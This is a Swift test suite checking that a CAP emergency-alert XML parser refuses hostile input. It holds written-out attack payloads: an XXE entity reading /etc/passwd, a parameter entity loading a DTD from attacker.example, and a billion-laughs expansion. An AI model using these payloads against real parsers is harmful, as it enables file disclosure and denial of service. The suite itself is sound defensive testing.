import Foundation
import Testing

@testable import BeredskapEscalation

/// Documents written to attack the reader: each is refused before it can do harm, with a reason.
@Suite struct CAPHostileInputTests {
    /// A valid alert whose identifier is the external entity, so a parser that resolved it would put
    /// the file's content into the alert or an error message.
    static let externalEntity = """
        <?xml version="1.0" encoding="UTF-8"?>
        <!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
        <alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">
          <identifier>&xxe;</identifier><sender>a@example.se</sender><sent>2024-06-21T02:30:00+02:00</sent>
          <status>Actual</status><msgType>Alert</msgType><scope>Public</scope>
        </alert>
        """

    @Test func anExternalEntityIsRefusedBeforeParsingAndTheFileNeverAppears() throws {
        let error = try #require(CAPSamples.refusal(of: Self.externalEntity))
        #expect(error.code == .forbiddenDeclaration)
        #expect(error.problems.count == 1)
        #expect(error.problems.first?.line == 2)
        #expect(error.problems.first?.column == 1)
        #expect(error.description.hasPrefix("test.cap:2:1: <!DOCTYPE is not allowed"))
        #expect(!error.description.contains("root:"))
        if let passwd = FileManager.default.contents(atPath: "/etc/passwd"),
            let firstLine = String(decoding: passwd, as: UTF8.self).split(separator: "\n").first
        {
            #expect(!error.description.contains(firstLine))
        }
    }

    @Test func anEntityDeclarationWithoutADoctypeIsRefusedToo() {
        let xml = CAPSamples.alert(extraAlertElements: "<!ENTITY % remote SYSTEM \"http://attacker.example/x.dtd\">")
        let error = CAPSamples.refusal(of: xml)
        #expect(error?.code == .forbiddenDeclaration)
        #expect(error?.problems.first?.message.hasPrefix("<!ENTITY is not allowed") == true)
    }

    @Test func aDoctypeIsRefusedEvenInACommentOrInLowerCase() {
        let commented = CAPSamples.refusal(of: CAPSamples.alert(extraAlertElements: "<!-- <!DOCTYPE alert> -->"))
        #expect(commented?.code == .forbiddenDeclaration)
        let lower = CAPSamples.refusal(of: "<?xml version=\"1.0\"?>\n<!doctype alert>\n" + CAPSamples.alert())
        #expect(lower?.code == .forbiddenDeclaration)
        let element = CAPSamples.refusal(of: "<!ELEMENT alert ANY>" + CAPSamples.alert())
        #expect(element?.problems.first?.message.hasPrefix("<!ELEMENT is not allowed") == true)
    }

    @Test func billionLaughsIsRefusedBeforeAnyEntityIsExpanded() {
        var declarations = "<!ENTITY lol0 \"lol\">"
        for level in 1...9 {
            declarations += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">"
        }
        let xml = """
            <?xml version="1.0"?>
            <!DOCTYPE alert [\(declarations)]>
            <alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>
            """
        let error = CAPSamples.refusal(of: xml)
        #expect(error?.code == .forbiddenDeclaration)
        #expect(error?.problems.first?.line == 2)
    }

    @Test func aDocumentOverTheSizeLimitIsRefusedUnread() throws {
        let valid = CAPSamples.alert()
        let small = CAPSamples.refusal(of: valid, maximumSize: 256)
        #expect(small?.code == .tooLarge)
        #expect(small?.description.contains("the limit for a CAP alert is 256 bytes") == true)
        let padding = String(repeating: " ", count: CAPParser.defaultMaximumSize)
        let huge = CAPSamples.refusal(of: valid.replacingOccurrences(of: "</alert>", with: padding + "</alert>"))
        #expect(huge?.code == .tooLarge)
        #expect(huge?.description.contains("limit for a CAP alert is 1 MiB") == true)
        #expect(try CAPSamples.parse(valid).identifier == "SE-TEST-1")
    }

    @Test func textThatIsNotXMLIsRefusedWithAPosition() {
        let error = CAPSamples.refusal(of: "Bombhot mot Sergels torg, ring TIB")
        #expect(error?.code == .malformedXML)
        #expect(error?.problems.first?.line == 1)
        #expect(error?.description.hasPrefix("test.cap:1:") == true)
    }

    @Test func aMismatchedTagIsRefusedAtItsLine() {
        let xml =
            "<?xml version=\"1.0\"?>\n<alert xmlns=\"urn:oasis:names:tc:emergency:cap:1.2\">\n"
            + "  <identifier>x</sender>\n</alert>"
        let error = CAPSamples.refusal(of: xml)
        #expect(error?.code == .malformedXML)
        #expect(error?.problems.first?.line == 3)
        #expect(error?.problems.first?.message == "not well-formed XML: an end tag does not match its start tag")
    }

    @Test func anUndefinedEntityIsMalformedNotResolved() {
        let error = CAPSamples.refusal(of: CAPSamples.alert(identifier: "&xxe;"))
        #expect(error?.code == .malformedXML)
        #expect(error?.problems.first?.message.contains("entity that is not defined") == true)
    }

    @Test func aDocumentWhoseRootIsNotACAPAlertIsRefused() {
        let html = CAPSamples.refusal(of: "<html><body>Larm!</body></html>")
        #expect(html?.code == .notCAP)
        #expect(
            html?.description
                == "test.cap: <html>: the root element is <html> in no namespace; expected <alert> in the CAP 1.2 "
                + "namespace urn:oasis:names:tc:emergency:cap:1.2")
        let bare = CAPSamples.refusal(of: CAPSamples.alert().replacingOccurrences(of: " xmlns=", with: " xmlns:cap="))
        #expect(bare?.code == .notCAP)
        #expect(bare?.problems.first?.message.contains("<alert> in no namespace") == true)
        let atom = CAPSamples.refusal(of: "<feed xmlns=\"http://www.w3.org/2005/Atom\"/>")
        #expect(atom?.problems.first?.message.contains("<feed> in the namespace http://www.w3.org/2005/Atom") == true)
    }

    @Test func unsupportedEncodingsAreRefused() {
        let utf16 = CAPSamples.alert().data(using: .utf16)!
        let error = CAPSamples.refusal { () throws(CAPError) in try CAPParser.parse(data: utf16, source: "u.cap") }
        #expect(error?.code == .unsupportedEncoding)
        let declared = CAPSamples.refusal(
            of: CAPSamples.alert().replacingOccurrences(of: "encoding=\"UTF-8\"", with: "encoding = 'EBCDIC-US'"))
        #expect(declared?.problems.first?.message.contains("'EBCDIC-US'") == true)
    }

    @Test func deeplyNestedElementsAreRefused() {
        let nesting =
            String(repeating: "<x:a xmlns:x=\"urn:example\">", count: 40) + String(repeating: "</x:a>", count: 40)
        let error = CAPSamples.refusal(of: CAPSamples.alert(extraAlertElements: nesting))
        #expect(error?.code == .tooDeep)
    }
}
